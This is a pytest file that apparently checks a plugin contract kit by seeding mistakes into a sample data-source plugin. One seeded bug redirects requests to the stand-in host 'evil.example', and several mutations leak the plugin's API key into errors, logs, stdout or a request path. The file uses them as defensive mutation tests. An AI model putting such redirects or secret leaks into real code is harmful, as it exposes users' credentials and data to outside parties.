"""The contract kit is worth what it catches: a good source passes whole, and each seeded mistake is found."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest
from plugin_makers import MANIFEST, MakePlugin, maker

from influtui.api import Parameter
from influtui.testing import Answer, SourceContract
from influtui.testing.platforms import FAULTS, REFUSALS

GOOD = """
asked = {"q": query, "limit": limit, "after": cursor or "0"}
reply = await self.ctx.http.get("people", asked)
if reply.status == 404:
    raise NotFound("nobody")
if reply.status != 200:
    raise UpstreamChanged(f"status {reply.status}")
body = reply.json()
try:
    people, more = body["people"], body.get("next")
except (KeyError, TypeError, AttributeError) as error:
    raise UpstreamChanged("the answer has no people") from error
found, skipped = [], []
for person in people:
    name = person.get("name")
    if not name:
        skipped.append(Skipped("?", "no name"))
        continue
    detail = await self.ctx.http.get(f"people/{name}")
    if detail.status != 200:
        skipped.append(Skipped(name, "not given out"))
        continue
    known = detail.json()
    fans = known.get("fans") if isinstance(known, dict) else None
    found.append(Profile(platform="bluesky", handle=name, followers=fans, as_of=self.ctx.clock()))
return Page(profiles=tuple(found), skipped=tuple(skipped), next=more)
"""

BUGS: dict[str, tuple[str, str]] = {
    "zero for unknown": ('known.get("fans")', 'known.get("fans", 0)'),
    "a missing key is a KeyError": ('known.get("fans")', 'known["fans"]'),
    "a missing name is a KeyError": ('person.get("name")', 'person["name"]'),
    "any status is believed": ("if reply.status != 200:", "if False:"),
    "no status is believed, and the body is not looked at": (
        "except (KeyError, TypeError, AttributeError)",
        "except ValueError",
    ),
    "a naive time": ("as_of=self.ctx.clock()", "as_of=datetime(2026, 1, 1)"),
    "another platform": ('platform="bluesky"', 'platform="instagram"'),
    "the limit is ignored": ('"limit": limit', '"limit": 5'),
    "the cursor is ignored": ('"after": cursor or "0"', '"after": "0"'),
    "the cursor stands still": ("next=more", 'next="0"'),
    "the cursor is a number": ("next=more", "next=int(more) if more else None"),
    "pages overlap": ('"after": cursor or "0"', '"after": str(max(0, int(cursor or 0) - 1))'),
    "the cursor is kept in the class": ('"after": cursor or "0"', '"after": str(getattr(type(self), "at", 0))'),
    "another host": ('http.get("people", asked)', 'http.get("https://evil.example/people", asked)'),
    "it blocks": ("body = reply.json()", "time.sleep(0.2); body = reply.json()"),
    "it leaves a task": (
        "body = reply.json()",
        "self.t = asyncio.ensure_future(asyncio.sleep(60)); body = reply.json()",
    ),
    "it swallows the cancellation": (
        'reply = await self.ctx.http.get("people", asked)',
        'try:\n    reply = await self.ctx.http.get("people", asked)\nexcept asyncio.CancelledError:\n    return Page()',
    ),
    "it uses its own clock": ("as_of=self.ctx.clock()", "as_of=datetime.now(UTC)"),
    "a count below zero": ("followers=fans", "followers=None if fans is None else -fans"),
    "a count that is text": ("followers=fans", "followers=None if fans is None else str(fans)"),
    "everybody twice": ("profiles=tuple(found)", "profiles=tuple(found + found)"),
    "a list for a page": ("return Page(profiles=tuple(found), skipped=tuple(skipped), next=more)", "return found"),
    "nothing at all": ("profiles=tuple(found)", "profiles=()"),
    "a refusal is an empty page": ('raise UpstreamChanged(f"status {reply.status}")', "return Page()"),
    "an error of its own kind": ('raise UpstreamChanged(f"status {reply.status}")', 'raise RuntimeError("status")'),
}


def _contract(package_: str, source_: str) -> SourceContract:
    class Contract(SourceContract):
        package = package_
        source = source_
        limit = 2

        def answer(self, path: str, parameters: Mapping[str, Parameter]) -> Answer:
            if path != "people" and not path.endswith("/people"):
                return 200, {"fans": 100 + int(path[-1])}
            start, limit = int(str(parameters["after"])), int(str(parameters["limit"]))
            people = [{"name": f"p{number}"} for number in range(start, min(start + limit, 5))]
            return 200, {"people": people, "next": str(start + limit) if start + limit < 5 else None}

    return Contract()


def _failures(contract: SourceContract) -> Iterator[str]:
    """The contract's tests that a source fails, those that are soon done first."""
    given_to = {"bad_day": FAULTS, "refusal": REFUSALS, "no_secret": FAULTS}
    names = [each for each in dir(contract) if each.startswith("test_")]
    for name in sorted(names, key=lambda name: (any(word in name for word in (*given_to, "a_key")), name)):
        arguments = next(([(fault,) for fault in faults] for word, faults in given_to.items() if word in name), [()])
        try:
            for given in arguments:
                getattr(contract, name)(*given)
        except (Exception, pytest.fail.Exception):
            yield name


@pytest.fixture
def make(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> MakePlugin:
    return maker(tmp_path / "site", monkeypatch)


def test_a_good_source_passes_whole(make: MakePlugin) -> None:
    make("fine", search=GOOD)
    assert list(_failures(_contract("influtui_fine", "fine"))) == []


@pytest.mark.parametrize("bug", BUGS)
def test_a_seeded_mistake_is_caught(make: MakePlugin, bug: str) -> None:
    right, wrong = BUGS[bug]
    assert GOOD.count(right) == 1, "the mistake replaces exactly one place"
    name = f"bug{list(BUGS).index(bug)}"
    make(name, search=GOOD.replace(right, wrong))
    assert next(_failures(_contract(f"influtui_{name}", name)), None), bug


LEAKS = {
    "in an error": (
        'raise UpstreamChanged(f"status {reply.status}")',
        'raise UpstreamChanged(f"no {self.ctx.secrets}")',
    ),
    "in an error's details": (
        'raise UpstreamChanged(f"status {reply.status}")',
        'raise UpstreamChanged("no", detail=self.ctx.secrets["api_key"])',
    ),
    "in what led to an error": (
        'raise UpstreamChanged(f"status {reply.status}")',
        'raise UpstreamChanged("no") from KeyError(self.ctx.secrets["api_key"])',
    ),
    "in the log": ("body = reply.json()", "logging.info('with %s', self.ctx.secrets); body = reply.json()"),
    "on standard output": ("body = reply.json()", "print(self.ctx.secrets); body = reply.json()"),
    "in a path": ('http.get("people", asked)', "http.get(self.ctx.secrets['api_key'] + '/people', asked)"),
}


@pytest.mark.parametrize("leak", [None, *LEAKS])
def test_a_secret_that_gets_into_words_is_caught(make: MakePlugin, leak: str | None) -> None:
    right, wrong = LEAKS[leak] if leak else ("", "")
    assert leak is None or GOOD.count(right) == 1
    name = f"leak{list(LEAKS).index(leak) if leak else 'less'}"
    fields = '[[source.field]]\nkey = "api_key"\nkind = "secret"\nlabel = "API key"\n'
    make(
        name,
        search=GOOD.replace(right, wrong) if leak else GOOD,
        top="import logging",
        manifest=MANIFEST.format(id=name, timeout=1) + fields,
    )
    failed = list(_failures(_contract(f"influtui_{name}", name)))
    assert ("test_no_secret_gets_into_words" in failed) == (leak is not None)


def test_a_hook_that_forgets_its_source_is_caught(make: MakePlugin) -> None:
    make("forgets", search=GOOD, hook="return []")
    assert "test_the_hook_supplies_what_the_manifest_announces" in _failures(_contract("influtui_forgets", "forgets"))


def test_a_contract_without_answers_is_red_where_its_author_must_write() -> None:
    class Unwritten(SourceContract):
        package = "influtui_bluesky"
        source = "bluesky"

    with pytest.raises(NotImplementedError, match="say what your platform answers"):
        Unwritten().test_somebody_is_found_and_the_host_lets_everybody_in()
